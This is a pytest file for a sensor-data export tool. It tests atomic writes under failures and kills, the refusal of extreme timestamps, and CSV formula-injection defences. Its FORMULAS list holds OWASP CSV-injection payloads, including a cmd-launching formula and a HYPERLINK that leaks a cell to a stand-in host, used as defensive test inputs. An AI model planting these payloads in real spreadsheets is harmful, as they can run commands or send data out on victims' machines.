"""
Safe exports (issue 16): a failed or killed export leaves nothing at ``--out`` (and a file already
there untouched); timestamps no format can hold are refused with the rows named; CSV text cells
a spreadsheet would run as formulas get a leading quote.
"""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
import textwrap
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from sensors import export as ex
from sensors.errors import ExportError
from sensors.export import csv_, formulas, staging, writer
from sensors.ingest import ingest_records
from sensors.store import Store

TABLE_FORMATS = ("parquet", "geoparquet", "gpkg", "netcdf", "csv")

#: Formula-like strings (OWASP CSV injection examples and the leading characters they use).
FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _readings(n: int, seed: int = 11) -> pd.DataFrame:
    """A synthetic readings table (fixed seed; no real readings exist) with lat/lon."""
    rng = np.random.default_rng(seed)
    return pd.DataFrame(
        {
            "time": pd.date_range("2022-01-10 08:00", periods=n, freq="min", tz="Asia/Tokyo"),
            "sensor_id": [f"S{i % 7}" for i in range(n)],
            "lat": 43.0605 + rng.normal(0, 0.001, n),
            "lon": 141.3545 + rng.normal(0, 0.001, n),
            "air_temp_c": rng.normal(-3, 2, n),
            "simulated": np.ones(n, dtype=bool),
        }
    )


def _folder_names(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir())


def _previous_export(out: Path) -> tuple[bytes, bytes]:
    """Put an earlier export (and its sidecar) at ``out``; return their bytes."""
    out.write_bytes(b"earlier export\n")
    ex.sidecar_path(out).write_bytes(b'{"earlier": true}\n')
    return out.read_bytes(), ex.sidecar_path(out).read_bytes()


# ----------------------------------------------------------------------------------------------
# failures mid-write
# ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", TABLE_FORMATS)
@pytest.mark.parametrize("earlier", [False, True], ids=["no-earlier-file", "earlier-file"])
def test_failure_mid_write_leaves_nothing(tmp_path: Path, fmt: str, earlier: bool) -> None:
    out = tmp_path / f"readings{ex.SUFFIX[fmt]}"
    before = _previous_export(out) if earlier else None
    calls: list[int] = []

    def fail_after_first_chunk(done: int, total: int) -> None:
        calls.append(done)
        raise OSError(f"disk full after {done} of {total} rows")

    with pytest.raises(OSError, match="disk full after"):
        ex.write_table(
            _readings(5_000), out, fmt, "readings", progress=fail_after_first_chunk,
            chunk_rows=1_000,
        )  # fmt: skip
    assert calls, "the failure must come from inside the writer"
    if before is None:
        assert _folder_names(tmp_path) == []
    else:
        assert (out.read_bytes(), ex.sidecar_path(out).read_bytes()) == before
        assert _folder_names(tmp_path) == sorted([out.name, ex.sidecar_path(out).name])


def test_writer_raising_after_some_bytes_leaves_nothing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    seen: list[Path] = []

    def broken_csv(frame: pd.DataFrame, path: Path, progress: object, chunk_rows: int) -> None:
        with path.open("w", encoding="utf-8") as fh:
            fh.write("time,sensor_id\n2022-01-10T08:00:00+09:00,S1\n")
        seen.append(path)
        raise OSError("No space left on device")

    monkeypatch.setattr(csv_, "write_csv", broken_csv)
    out = tmp_path / "readings.csv"
    with pytest.raises(OSError, match="No space left"):
        ex.write_table(_readings(10), out, "csv", "readings")
    assert seen and seen[0].parent == tmp_path and seen[0] != out  # it wrote to a temp file
    assert _folder_names(tmp_path) == []


def test_sidecar_failure_keeps_the_earlier_export(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "readings.gpkg"
    before = _previous_export(out)

    def unreadable(path: Path) -> str:
        raise PermissionError(f"cannot read {path.name}")

    monkeypatch.setattr(writer, "file_sha256", unreadable)
    with pytest.raises(PermissionError, match="cannot read"):
        ex.write_table(_readings(10), out, "gpkg", "readings")
    assert (out.read_bytes(), ex.sidecar_path(out).read_bytes()) == before
    assert _folder_names(tmp_path) == sorted([out.name, ex.sidecar_path(out).name])


def test_export_replaces_the_earlier_file_with_a_matching_sidecar(tmp_path: Path) -> None:
    out = tmp_path / "readings.csv"
    _previous_export(out)
    result = ex.write_table(_readings(10), out, "csv", "readings")
    back, meta = ex.read_export(out)
    assert len(back) == 10 and result.sidecar == ex.sidecar_path(out)
    assert meta["file_sha256"] == writer.file_sha256(out)
    assert _folder_names(tmp_path) == sorted([out.name, ex.sidecar_path(out).name])
    # a sidecar that belongs to another version of the file is refused, not trusted
    out.write_text(out.read_text(encoding="utf-8") + "\n", encoding="utf-8")
    with pytest.raises(ExportError, match=r"describes another file .*Run the export again"):
        ex.read_metadata(out)


# ----------------------------------------------------------------------------------------------
# killed mid-export
# ----------------------------------------------------------------------------------------------

_KILLED_EXPORT = textwrap.dedent(
    """
    import sys

    import numpy as np
    import pandas as pd

    from sensors import export as ex

    n = 200_000
    rng = np.random.default_rng(5)
    frame = pd.DataFrame({
        "time": pd.date_range("2022-01-01", periods=n, freq="min", tz="Asia/Tokyo"),
        "sensor_id": [f"S{i % 7}" for i in range(n)],
        "lat": 43.06 + rng.normal(0, 0.001, n),
        "lon": 141.35 + rng.normal(0, 0.001, n),
        "air_temp_c": rng.normal(-3, 2, n),
    })


    def wait_to_be_killed(done, total):
        print(f"written {done} of {total}", flush=True)
        sys.stdin.readline()  # blocks: the test kills this process here


    ex.write_table(frame, sys.argv[1], sys.argv[2], "readings", progress=wait_to_be_killed,
                   chunk_rows=20_000)
    """
)


@pytest.mark.parametrize("fmt", ["csv", "gpkg", "parquet", "netcdf"])
def test_sigkill_mid_export_leaves_the_earlier_file(tmp_path: Path, fmt: str) -> None:
    out = tmp_path / f"readings{ex.SUFFIX[fmt]}"
    before = _previous_export(out)
    proc = subprocess.Popen(
        [sys.executable, "-c", _KILLED_EXPORT, str(out), fmt],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    )
    try:
        line = proc.stdout.readline() if proc.stdout else ""
        assert line.startswith("written "), line
        data_temps = list(tmp_path.glob(f".{out.name}.*.tmp{out.suffix}"))
        assert len(data_temps) == 1 and data_temps[0].stat().st_size > 0  # killed mid-export
        os.kill(proc.pid, signal.SIGKILL)
    finally:
        proc.kill()
        proc.communicate()
    assert proc.returncode == -signal.SIGKILL
    assert (out.read_bytes(), ex.sidecar_path(out).read_bytes()) == before
    # the next export removes the killed one's temporary files once they are stale
    temps = [p for p in tmp_path.iterdir() if p.name.startswith(".")]
    assert data_temps[0] in temps
    for tmp in temps:
        old = tmp.stat().st_mtime - 2 * staging.STALE_TMP_S
        os.utime(tmp, (old, old))
    ex.write_table(_readings(10), out, fmt, "readings")
    assert len(ex.read_export(out)[0]) == 10
    assert not any(p.name.startswith(".") for p in tmp_path.iterdir())


# ----------------------------------------------------------------------------------------------
# timestamps no format can hold (F7)
# ----------------------------------------------------------------------------------------------


@pytest.fixture
def extreme_store(tmp_path: Path) -> Path:
    """A store file with two ordinary readings and rows at year 1, year 9999 and ±infinity, as
    older ingests stored them (inserted directly: ingest now quarantines such times)."""
    path = tmp_path / "extreme.duckdb"
    with Store(path) as st:
        ingest_records(
            st, "sensors",
            [{"sensor_id": "S1", "kind": "fixed", "lat": 43.0605, "lon": 141.3545, "level": 0,
              "simulated": True}],
            "test:sensors",
        )  # fmt: skip
        ingest_records(
            st, "readings",
            [{"time": t, "sensor_id": "S1", "air_temp_c": -3.0, "rel_humidity_pct": 70.0,
              "wind_speed_m_s": 2.0, "globe_temp_c": -1.0, "simulated": True}
             for t in ("2022-01-10T08:00:00+09:00", "2022-01-10T08:10:00+09:00")],
            "test:readings",
        )  # fmt: skip
        for line, ts in enumerate(
            ("0001-01-01 00:00:00+00", "9999-12-31 00:00:00+00", "infinity", "-infinity"),
            start=901,
        ):
            st.con.execute(
                "INSERT INTO readings BY NAME SELECT * REPLACE "
                f"(TIMESTAMPTZ '{ts}' AS time, {line} AS line) FROM readings LIMIT 1"
            )
    return path


@pytest.mark.parametrize("fmt", ["csv", "gpkg", "netcdf"])
def test_extreme_times_are_refused_with_the_rows_named(
    extreme_store: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / "out" / f"readings{ex.SUFFIX[fmt]}"
    out.parent.mkdir()
    with Store(extreme_store, read_only=True) as st:
        with pytest.raises(ExportError) as info:
            ex.export_store(st, "readings", fmt, out)
        message = str(info.value)
        assert "4 row(s) have a time outside 1900-01-01 .. 2100-01-01" in message
        for line in (901, 902, 903, 904):
            assert f"line {line})" in message
        assert "0001-01-01T00:00:00Z" in message and "9999-12-31T00:00:00Z" in message
        assert "--start 1900-01-01 --end 2100-01-01" in message
        assert _folder_names(out.parent) == []
        # the fix the message gives works, and the rows in range round-trip
        ex.export_store(st, "readings", fmt, out, start="1900-01-01", end="2100-01-01")
        back, meta = ex.read_export(out)
    assert meta["rows"] == len(back) == 2
    assert back["time"].dt.year.tolist() == [2022, 2022]


@pytest.mark.parametrize("fmt", ["csv", "gpkg", "netcdf"])
def test_cli_export_of_extreme_times_is_a_clear_error(
    extreme_store: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"readings{ex.SUFFIX[fmt]}"
    env = {**os.environ, "KAITEKI_STORE": str(extreme_store)}
    kaiteki = Path(sys.executable).with_name("kaiteki")
    res = subprocess.run(
        [str(kaiteki), "export", "readings", "--format", fmt, "--out", str(out), "--json"],
        capture_output=True, text=True, env=env, check=False,
    )  # fmt: skip
    assert res.returncode == 2, res.stderr
    assert "kaiteki: error: readings export refused: 4 row(s)" in res.stderr, res.stderr
    assert "Traceback" not in res.stderr and "MemoryError" not in res.stderr
    assert not out.exists()


# ----------------------------------------------------------------------------------------------
# spreadsheet formulas in CSV (F8)
# ----------------------------------------------------------------------------------------------


def _csv_cells(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_survey_csv_quotes_every_formula(tmp_path: Path) -> None:
    st = Store(":memory:")
    times = pd.date_range("2022-01-10 08:00", periods=len(FORMULAS), freq="10min", tz="Asia/Tokyo")
    ingest_records(
        st, "survey",
        [{"response_id": f"R{i}", "time": t.isoformat(), "lat": 43.0605, "lon": 141.3545,
          "thermal_sensation": -2, "comfort_vote": 1, "preference": formula, "activity": formula,
          "clothing_clo": 1.2, "age_group": "20-39", "free_text": formula, "simulated": True}
         for i, (t, formula) in enumerate(zip(times, FORMULAS, strict=True))],
        "test:survey", pseudonym_key="test-key",
    )  # fmt: skip
    out = tmp_path / "survey.csv"
    result = ex.export_store(st, "survey", "csv", out)
    rows = _csv_cells(out)
    assert len(rows) == len(FORMULAS)
    for col in ("preference", "activity", "free_text"):
        assert sorted(r[col] for r in rows) == sorted("'" + f for f in FORMULAS), col
    # numbers stay numbers: the negative thermal sensation is not quoted
    assert {r["thermal_sensation"] for r in rows} == {"-2"}
    quoted = result.metadata["formula_cells_quoted"]
    assert quoted["cells"] == {c: len(FORMULAS) for c in ("preference", "activity", "free_text")}
    assert json.loads(ex.sidecar_path(out).read_text())["formula_cells_quoted"] == quoted
    # documented choice: reading back keeps the quote (the rule is one-way)
    back, _ = ex.read_export(out)
    assert sorted(back["free_text"]) == sorted("'" + f for f in FORMULAS)


def test_counts_csv_quotes_formulas_in_text_columns_only(tmp_path: Path) -> None:
    st = Store(":memory:")
    ingest_records(
        st, "flow",
        [{"time": "2022-01-10T08:00:00+09:00", "line_id": formula, "direction": formula,
          "interval_min": 15, "count": -3.2, "series": "=1+1", "simulated": True}
         for formula in FORMULAS],
        "test:counts",
    )  # fmt: skip
    out = tmp_path / "counts.csv"
    ex.export_store(st, "counts", "csv", out)
    rows = _csv_cells(out)
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for col, value in row.items():
            assert not value.startswith(formulas.FORMULA_STARTS) or col in ("count",), (col, value)
        assert row["line_id"].startswith("'") and row["series"] == "'=1+1"
        assert row["count"] == "-3.2"


def test_formula_rule_on_a_plain_table(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {
            "label": ["-3.2", "=A1", "plain", None, "a=b"],
            "value": [-3.2, 1.0, 2.0, 3.0, 4.0],
            "delta": [-1, 2, 3, 4, 5],
        }
    )
    out = tmp_path / "t.csv"
    ex.write_table(frame, out, "csv", "places")
    rows = _csv_cells(out)
    assert [r["label"] for r in rows] == ["'-3.2", "'=A1", "plain", "", "a=b"]
    assert rows[0]["value"] == "-3.2" and rows[0]["delta"] == "-1"
    # the other formats keep the text as it is
    ex.write_table(frame, tmp_path / "t.parquet", "parquet", "places")
    assert pd.read_parquet(tmp_path / "t.parquet")["label"].tolist()[:2] == ["-3.2", "=A1"]
